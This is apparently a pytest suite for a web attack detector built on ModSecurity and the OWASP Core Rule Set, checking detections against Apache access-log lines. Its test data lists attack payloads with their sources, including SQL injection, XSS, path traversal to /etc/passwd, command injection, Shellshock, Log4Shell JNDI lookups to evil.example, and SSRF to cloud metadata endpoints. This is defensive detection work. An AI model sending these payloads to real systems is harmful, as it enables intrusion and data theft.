"""The web attack detector (detectors/waf) with its real engines: libmodsecurity running the
OWASP Core Rule Set (Debian's modsecurity-crs, installed by .ci/run) and Vigie's access-log rules,
on events from the ``web.access`` parser.

Payload forms come from the OWASP Web Security Testing Guide (WSTG), OWASP cheat sheets and the
CRS regression tests (coreruleset/coreruleset tests/regression/tests/REQUEST-9xx-*/<rule>.yaml);
each case names its source.
"""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from support import needs_crs

from cert.core.config import Settings
from cert.core.ecs import Event, put
from cert.core.errors import ConfigError
from detectors.waf.detector import PROBE_RULE, WebAttackDetector
from detectors.waf.engine import Engine
from detectors.waf.request import decoded_once, undo_overlong, variants
from ingest.parsers.web_access import WebAccessParser

pytestmark = needs_crs

BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"
T0 = datetime(2024, 3, 1, 10, 0, tzinfo=UTC)

# (class, request target, referrer, user agent, status, source of the form)
ATTACKS = [
    ("sqli-no-quote", "/news.php?id=1%20AND%201=1", "-", BROWSER, 200, "WSTG 4.7.5 boolean"),
    ("sqli-comment", "/news.php?id=1/**/UNION/**/SELECT/**/username,password/**/FROM/**/users", "-", BROWSER, 200,
     "WSTG 4.7.5 comment obfuscation"),
    ("sqli-time", "/item.php?id=1%27%20AND%20SLEEP(5)--%20-", "-", BROWSER, 200, "WSTG 4.7.5 time-based"),
    ("sqli-double-encoded", "/news.php?id=1%2527%2520OR%25201%253D1--%2520", "-", BROWSER, 200,
     "OWASP WAF evasion, double URL encoding"),
    ("xss", "/search.php?q=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E", "-", BROWSER, 200, "WSTG 4.7.1"),
    ("lfi", "/index.php?page=../../../../etc/passwd", "-", BROWSER, 200, "WSTG 4.5.1"),
    ("lfi-overlong", "/download.php?file=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", "-", BROWSER, 200,
     "WSTG 4.5.1 overlong UTF-8"),
    ("rfi", "/index.php?page=http://203.0.113.7/x.txt", "-", BROWSER, 200, "CRS 931100.yaml"),
    ("cmdi-semicolon", "/ping.php?host=127.0.0.1;cat%20/etc/passwd", "-", BROWSER, 200, "WSTG 4.7.12"),
    ("cmdi-subshell", "/ping.php?host=$(whoami)", "-", BROWSER, 200, "CRS 932100.yaml"),
    ("cmdi-backticks", "/ping.php?host=%60id%60", "-", BROWSER, 200, "CRS 932100.yaml"),
    ("cmdi-newline", "/ping.php?host=127.0.0.1%0auname%20-a", "-", BROWSER, 200, "WSTG 4.7.12"),
    ("cmdi-pipe", "/ping.php?host=127.0.0.1|id", "-", BROWSER, 200, "WSTG 4.7.12"),
    ("shellshock-ua", "/cgi-bin/status", "-", "() { :; }; /bin/bash -c 'cat /etc/passwd'", 200, "CRS 932170.yaml"),
    ("shellshock-referrer", "/cgi-bin/test.cgi", "() { :; }; ping -c 1 203.0.113.9", BROWSER, 200, "CRS 932171.yaml"),
    ("log4shell-ua", "/", "-", "${jndi:ldap://evil.example:1389/a}", 200, "CVE-2021-44228"),
    ("log4shell-obfuscated", "/", "-", "${${lower:j}ndi:${lower:l}dap://evil.example/a}", 200, "CRS 944151.yaml"),
    ("ssti", "/hello?name={{7*7}}", "-", BROWSER, 200, "WSTG 4.7.18"),
    ("webshell", "/wp-content/uploads/c99.php", "-", BROWSER, 200, "known web shell name"),
    ("webshell-upload", "/uploads/2024/avatar.php?x=1", "-", BROWSER, 200, "script in an upload folder"),
    ("scanner-nikto", "/", "-", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", 404, "CRS 913100.yaml"),
    ("scanner-nuclei", "/", "-", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", 404,
     "CRS 913100.yaml"),
    ("scanner-sqlmap", "/", "-", "sqlmap/1.7.2#stable (https://sqlmap.org)", 404, "CRS 913100.yaml"),
    ("probe-env", "/.env", "-", BROWSER, 404, "CRS 930130.yaml"),
    ("probe-git", "/.git/config", "-", BROWSER, 404, "CRS 930130.yaml"),
    ("probe-backup", "/backup.zip", "-", BROWSER, 404, "WSTG 4.2.4"),
    ("probe-server-status", "/server-status", "-", BROWSER, 403, "Apache mod_status"),
    ("probe-phpmyadmin", "/phpmyadmin/scripts/setup.php", "-", BROWSER, 404, "phpMyAdmin setup probes"),
    ("ssrf-aws", "/fetch?url=http://169.254.169.254/latest/meta-data/", "-", BROWSER, 200, "OWASP SSRF cheat sheet"),
    ("ssrf-gcp", "/proxy?u=http://metadata.google.internal/computeMetadata/v1/", "-", BROWSER, 200,
     "OWASP SSRF cheat sheet"),
    ("ssrf-decimal", "/fetch?url=http://2852039166/latest/meta-data/", "-", BROWSER, 200, "SSRF decimal address"),
    ("crlf", "/redirect.php?lang=en%0d%0aSet-Cookie:%20session=evil", "-", BROWSER, 200, "CRS 921130.yaml"),
]

BENIGN = [
    "/search?q=select+committee+report",
    "/archives?sort=order+by+date",
    "/search?q=drop+off+points+for+passports",
    "/etat-civil/acte-de-naissance?commune=Saint-Denis&annee=1987",
    "/visa/demande?type=court+s%C3%A9jour&pays=S%C3%A9n%C3%A9gal",
    "/misc/sample.log",
]


def line(target: str, referrer: str = "-", agent: str = BROWSER, status: int = 200,
         client: str = "203.0.113.5", when: datetime = T0) -> str:
    # Apache combined log format (httpd docs, mod_log_config "Common Log Format" + Referer, User-agent)
    stamp = when.strftime("%d/%b/%Y:%H:%M:%S +0000")
    return f'{client} - - [{stamp}] "GET {target} HTTP/1.1" {status} 512 "{referrer}" "{agent}"'


def event(text: str, n: int = 0) -> Event:
    ev = WebAccessParser().parse(text)
    assert ev is not None
    put(ev, "event.id", f"ev-{n}")
    return ev


@pytest.fixture(scope="module")
def detector() -> WebAttackDetector:
    return WebAttackDetector(Settings())


@pytest.mark.parametrize(("name", "target", "referrer", "agent", "status", "source"), ATTACKS,
                         ids=[a[0] for a in ATTACKS])
def test_each_attack_class_is_detected(detector: WebAttackDetector, name: str, target: str, referrer: str,
                                       agent: str, status: int, source: str) -> None:
    hits = detector.detect([event(line(target, referrer, agent, status))])
    assert len(hits) == 1, f"{name} ({source}) not detected"
    hit = hits[0]
    assert hit.detector == "web_attacks"
    assert hit.entities["rule"]["id"] and hit.entities["rule"]["name"]
    assert hit.entities["rule"]["ruleset"] in ("OWASP CRS 3.3.4", "Vigie access-log rules")
    assert hit.entities["source.ip"] == "203.0.113.5"


@pytest.mark.parametrize("target", BENIGN)
def test_citizens_requests_are_not_attacks(detector: WebAttackDetector, target: str) -> None:
    assert detector.detect([event(line(target))]) == []


def test_finding_names_libinjection_and_the_crs_rule(detector: WebAttackDetector) -> None:
    hit = detector.detect([event(line("/login.php?user=admin%27%20or%20%271%27=%271&pass=x"))])[0]
    assert hit.rule_id == "crs-942100"
    assert hit.entities["rule"] == {"id": "942100", "name": "SQL Injection Attack Detected via libinjection",
                                    "ruleset": "OWASP CRS 3.3.4"}
    assert hit.entities["waf"]["engine"] == "libinjection"
    finding = hit.entities["waf"]["requests"][0]["findings"][0]
    assert finding["engine"] == "libinjection" and finding["rule.id"] == "942100"


def test_vigie_rules_say_so(detector: WebAttackDetector) -> None:
    hit = detector.detect([event(line("/", agent="${jndi:ldap://evil.example/a}"))])[0]
    assert hit.rule_id == "vigie-waf-10100"
    assert hit.entities["rule"]["ruleset"] == "Vigie access-log rules"
    assert hit.entities["waf"]["engine"] == "ModSecurity"


def test_requests_of_one_rule_and_source_make_one_hit(detector: WebAttackDetector) -> None:
    evs = [event(line(f"/news.php?id={i}%20AND%201=1"), i) for i in range(3)]
    hits = detector.detect(evs)
    assert len(hits) == 1 and hits[0].count == 3 and len(hits[0].event_ids) == 3


def test_served_file_with_a_restricted_extension_is_site_content(detector: WebAttackDetector) -> None:
    # CRS 920440 (restricted extensions): a .sql the server does not have is a probe; one it
    # serves is what the site publishes.
    assert detector.detect([event(line("/exports/db.sql", status=404))])
    assert detector.detect([event(line("/exports/db.sql", status=200))]) == []


def test_decodings() -> None:
    assert decoded_once("/a?id=1%2527") == "/a?id=1%27"
    assert decoded_once("/a?id=1%27") is None
    assert undo_overlong("..%c0%af..%C0%AFetc") == "..%2F..%2Fetc"
    assert undo_overlong("%e0%80%ae%e0%80%ae/") == "%2E%2E/"
    ev = event(line("/d?f=%252e%252e%252fetc%c0%afpasswd"))
    assert [name for name, _ in variants(ev)] == ["as-logged", "decoded-twice", "overlong-utf8"]


def test_paranoia_level_is_the_crs_one() -> None:
    # CRS 931130 (off-domain reference in a URL argument) belongs to paranoia level 2, the default.
    target = "/index.php?include=https://evil.example/c99.txt"
    assert WebAttackDetector(replace(Settings(), waf_paranoia_level=1)).detect([event(line(target))]) == []
    hits = WebAttackDetector(Settings()).detect([event(line(target))])
    assert any(h.entities["rule"]["id"] == "931130" for h in hits)
    with pytest.raises(ConfigError):
        WebAttackDetector(replace(Settings(), waf_paranoia_level=5))


def test_scripting_clients_and_crawlers_are_not_attacks_unless_the_operator_says_so() -> None:
    # CRS 913101 (scripting/generic HTTP clients) and 913102 (crawlers), paranoia level 2, are
    # excluded by default (waf_excluded_rules); attack tools' user agents (913100) are not. So is
    # 942380 (SQL words alone): a citizen's list sorted "order by date" is no attack.
    curl = event(line("/api/actes?numero=12", agent="python-requests/2.31.0"))
    assert WebAttackDetector(Settings()).detect([curl]) == []
    strict = WebAttackDetector(replace(Settings(), waf_excluded_rules=()))
    assert any(h.entities["rule"]["id"] == "913101" for h in strict.detect([curl]))
    tool = event(line("/", agent="sqlmap/1.7.2#stable (https://sqlmap.org)"))
    assert any(h.entities["rule"]["id"] == "913100" for h in WebAttackDetector(Settings()).detect([tool]))
    sorted_list = event(line("/visas/liste?tri=order+by+date"))
    assert WebAttackDetector(Settings()).detect([sorted_list]) == []
    assert any(h.entities["rule"]["id"] == "942380" for h in strict.detect([sorted_list]))
    with pytest.raises(ConfigError, match="not rule ids"):
        WebAttackDetector(replace(Settings(), waf_excluded_rules=("9131x",)))


def test_without_the_crs_the_detector_says_so_and_still_detects_scanning(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="modsecurity-crs"):
        Engine(tmp_path)
    detector = WebAttackDetector(replace(Settings(), waf_crs_dir=tmp_path))
    assert "modsecurity-crs" in detector.summary()["unavailable"]
    assert detector.detect([event(line("/search?id=1'+OR+'1'='1"))]) == []
    hits = detector.detect(_probes(20, 1))
    assert [h.rule_id for h in hits] == [PROBE_RULE]


def _probes(n: int, step: int, source: str = "198.51.100.7") -> list[Event]:
    return [event(line(f"/probe-{i}.php", status=404, client=source, when=T0 + timedelta(seconds=step * i)), i)
            for i in range(n)]


def test_many_404_paths_from_one_source_is_scanning() -> None:
    detector = WebAttackDetector(Settings())
    hits = [h for h in detector.detect(_probes(20, 5)) if h.rule_id == PROBE_RULE]
    assert len(hits) == 1
    assert hits[0].entities["source.ip"] == "198.51.100.7" and len(hits[0].event_ids) == 20
    assert hits[0].entities["rule"]["ruleset"] == "Vigie web behaviour"


def test_404_probes_counted_across_batches_within_the_window_only() -> None:
    detector = WebAttackDetector(Settings())
    evs = _probes(20, 5)
    assert [h for h in detector.detect(evs[:10]) if h.rule_id == PROBE_RULE] == []
    assert len([h for h in detector.detect(evs[10:]) if h.rule_id == PROBE_RULE]) == 1
    slow = WebAttackDetector(Settings())
    assert [h for h in slow.detect(_probes(20, 60)) if h.rule_id == PROBE_RULE] == []  # 20 over 19 minutes
    few = WebAttackDetector(Settings())
    assert [h for h in few.detect(_probes(19, 5)) if h.rule_id == PROBE_RULE] == []
